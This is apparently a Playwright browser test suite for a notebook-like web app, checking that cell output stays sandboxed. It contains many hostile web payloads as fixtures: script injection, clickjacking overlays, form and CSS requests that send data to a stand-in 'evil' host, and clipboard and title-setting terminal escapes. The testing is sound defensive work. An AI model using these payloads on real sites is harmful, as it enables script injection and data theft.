"""Output that tries to harm its viewers: it stays in its place, contacts no host, and leaves the page unchanged."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from playwright.async_api import Locator, Page, expect

from tests.browser.cell_page_object import CellPageObject
from tests.browser.conftest import VisitorFactory
from tests.browser.loopback import Loopback

PAGE = "/en/"
BLOCKED = ("Blocked", "Refused", "Content Security Policy", "sandbox", "Unsafe attempt", "Loading the", "violates")
"""Chromium's messages about an attempt that it stopped."""

_ABOVE = "position:relative;z-index:2147483647"
_FRAMES = """
<meta http-equiv=refresh content="0;url={evil}/refresh"><base href="{evil}/base/" target=_top>
<link rel=stylesheet href="{evil}/sheet.css"><link rel=prefetch href="{evil}/prefetch">
<link rel=preload as=image href="{evil}/preload">
<style>@import url({evil}/import); @font-face {{ font-family: f; src: url({evil}/font) }}
body {{ background: url({evil}/background); font-family: f }} a[href^=x] {{ background: url({evil}/leak) }}</style>
<script>top.document.title = 'taken'; window.open('{evil}/open'); parent.postMessage('taken', '*')</script>
<img src=x onerror="top.document.title = 'taken'"><img src="{evil}/image" srcset="{evil}/set 2x">
<body onload="top.document.title = 'taken'">
<div style="position:fixed;inset:0;z-index:2147483647" onclick="top.location='{evil}/click'"></div>
<object data="{evil}/object"></object><embed src="{evil}/embed"><iframe src="{evil}/frame"></iframe>
<iframe srcdoc="<script>top.document.title='taken'</script>"></iframe>
<iframe src="javascript:top.document.title='taken'"></iframe>
<svg><script>top.document.title = 'taken'</script><image href="{evil}/svg-image" /><use href="{evil}/use#x" />
<foreignObject><iframe src="{evil}/foreign"></iframe></foreignObject>
<set attributeName=onmouseover to="alert(1)" /></svg>
<video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<form action="{evil}/form" target=_top><input name=q value=secret><button id=send style="{above}">send</button></form>
<a id=top href="{evil}/top" target=_top style="{above}">top</a>
<a id=script href="javascript:top.document.title='taken'" style="{above}">script</a>
<a id=self href="{evil}/self" target=_self style="{above}">self</a>
<div style="height:10000000px">tall</div>
"""
_VECTOR = """<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'
 onload='parent.document.title=1'><script>parent.document.title = 'taken'</script>
<image xlink:href='{evil}/xlink' width='9' height='9'/>
<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{evil}/foreign'/></foreignObject>
<style>@import url({evil}/vector.css);</style></svg>"""
_PNG = """
import struct, zlib
from IPython.display import Image, display
def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
def png(width, height):
    head = chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 1, 0, 0, 0, 0))
    return b'\\x89PNG\\r\\n\\x1a\\n' + head + chunk(b'IDAT', zlib.compress(bytes(10**6))) + chunk(b'IEND', b'')
"""


@dataclass
class Evil:
    """A host that notes all requests."""

    url: str
    heard: list[str] = field(default_factory=list)
    called: asyncio.Event = field(default_factory=asyncio.Event)

    async def hear(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append((await reader.readline()).decode(errors="replace"))
        self.called.set()
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\naccess-control-allow-origin: *\r\n\r\nok")
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def evil(network: Loopback) -> AsyncIterator[Evil]:
    """Listen on the browser's loopback."""
    evil = Evil("")
    with network.entered():
        server = await asyncio.start_server(evil.hear, "127.0.0.1", 0)
        address = server.sockets[0].getsockname()
        evil.url = f"http://127.0.0.1:{address[1]}"
        _, writer = await asyncio.open_connection(*address)
    async with server:
        writer.write(b"it hears\r\n")
        await evil.called.wait()
        writer.close()
        evil.heard.clear()
        yield evil


async def opened(hall: VisitorFactory, code: str) -> CellPageObject:
    visitor = await hall.admit()
    visitor.tolerated.extend(BLOCKED)
    page = await visitor.open(PAGE)
    await page.evaluate("window.told = []; addEventListener('message', (event) => told.push(event.data))")
    cell = CellPageObject(page, "strategy")
    await cell.write(code)
    await cell.run()
    return cell


async def heard_nothing(hall: VisitorFactory, evil: Evil) -> None:
    """The browser names requests before a policy stops them; what counts is what the host itself heard.

    It hears of a tab that is opened now, and so would have heard of what was sent before.
    """
    before = len(evil.heard)
    tab = await hall.visitors[0].context.new_page()
    await tab.goto(f"{evil.url}/afterwards")
    await tab.close()
    heard = evil.heard[:before] + list(filter(None, evil.heard[before:]))  # for the tab, a second connection in vain
    assert [line for line in heard if "/afterwards" not in line and "/favicon.ico" not in line] == []
    for visitor in hall.visitors:
        visitor.elsewhere[:] = [url for url in visitor.elsewhere if not url.startswith(evil.url)]


async def click_each(links: list[Locator], page: Page) -> None:
    """Press the mouse there: a click that a policy stops never counts as done for Playwright."""
    for link in links:
        await link.evaluate("link => link.scrollIntoView({ block: 'nearest' })")
        box = await link.bounding_box()
        assert box is not None
        await page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


async def unharmed(cell: CellPageObject, address: str) -> None:
    """Check that the page is still there, responds, and has received no messages."""
    page = cell.page
    assert page.url == address
    assert "taken" not in await page.title()
    assert await page.evaluate("told") == []
    assert len(page.context.pages) == 1
    assert await page.evaluate("document.documentElement.scrollHeight") < 60_000
    await cell.write("print('still', 'here')")
    await cell.run()
    await cell.has_row("still here")


async def test_html_can_neither_call_out_nor_reach_the_page_nor_lead_it_away(hall: VisitorFactory, evil: Evil) -> None:
    cell = await opened(
        hall, f"from IPython.display import HTML\nHTML('''{_FRAMES.format(evil=evil.url, above=_ABOVE)}''')"
    )
    address = cell.page.url
    await cell.finished()

    frame = cell.root.locator("iframe")
    assert await frame.get_attribute("sandbox") == ""
    await expect(frame.content_frame.locator("#send")).to_be_visible()
    await click_each([frame.content_frame.locator(link) for link in ("#send", "#top", "#script", "#self")], cell.page)
    box = await frame.bounding_box()
    assert box is not None
    assert box["height"] < 500
    await heard_nothing(hall, evil)
    await unharmed(cell, address)


async def test_html_opened_by_itself_has_no_more_rights(hall: VisitorFactory, evil: Evil) -> None:
    cell = await opened(
        hall, f"from IPython.display import HTML\nHTML('''{_FRAMES.format(evil=evil.url, above=_ABOVE)}''')"
    )
    await cell.finished()
    alone = await hall.visitors[0].open(str(await cell.root.locator("iframe").get_attribute("src")))

    await expect(alone.locator("#send")).to_be_visible()
    await click_each([alone.locator(link) for link in ("#send", "#script")], alone)
    await heard_nothing(hall, evil)
    assert "taken" not in await alone.title()
    assert "taken" not in await cell.page.title()


async def test_a_vector_picture_runs_nothing_and_asks_nobody(hall: VisitorFactory, evil: Evil) -> None:
    cell = await opened(hall, f'from IPython.display import SVG\nSVG("""{_VECTOR.format(evil=evil.url)}""")')
    address = cell.page.url
    await cell.finished()

    await expect(cell.root.locator(".output img")).to_have_count(1)
    await heard_nothing(hall, evil)
    await unharmed(cell, address)


async def test_markdown_latex_json_and_names_are_text(hall: VisitorFactory, evil: Evil) -> None:
    bad = f"<img src={evil.url}/text onerror=alert(1)><script>document.title='taken'</script>"
    code = (
        f"bad = {bad!r}\nfor kind in ('text/markdown', 'text/latex', 'text/plain'): display({{kind: bad}}, raw=True)\n"
        "display({'application/json': {bad: [bad]}}, raw=True)\nprint(bad)\n"
        "raise type(bad, (Exception,), {})(bad)"
    )
    cell = await opened(hall, code)
    address = cell.page.url
    await cell.finished("error")

    assert await cell.root.locator(".output img, .output script").count() == 0
    await expect(cell.root.locator(".output pre.display").first).to_contain_text("<img src=")
    await heard_nothing(hall, evil)
    await unharmed(cell, address)


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (100_000, 100_000),
        pytest.param(1, 2**31 - 1, marks=pytest.mark.long),
        pytest.param(2**31 - 1, 1, marks=pytest.mark.long),
    ],
)
async def test_a_picture_that_claims_to_be_huge_leaves_the_page_usable(
    hall: VisitorFactory, width: int, height: int
) -> None:
    cell = await opened(hall, _PNG + f"display(Image(png({width}, {height})))")
    address = cell.page.url
    await cell.finished()

    await expect(cell.root.locator(".output img")).to_have_count(1)
    await unharmed(cell, address)


async def test_orders_to_a_terminal_mean_nothing_to_the_page(hall: VisitorFactory) -> None:
    cell = await opened(
        hall,
        r"""for i in range(300):
    print('\x1b]0;taken\x07\x1b]52;c;dGFrZW4=\x07\x1b]8;;https://evil.example/\x07\x1b[6n\x1bP$q\x1b\\' * 20, end='')
print('\x1b]0;never ended' + 'x' * 5000)
print('\x1b[2J\x1b[3J\x1b[9999;9999H\x1b[?1049h\x9d0;taken\x9cafter')""",
    )
    address = cell.page.url
    await cell.finished()

    assert await cell.root.locator(".output a").count() == 0
    await unharmed(cell, address)
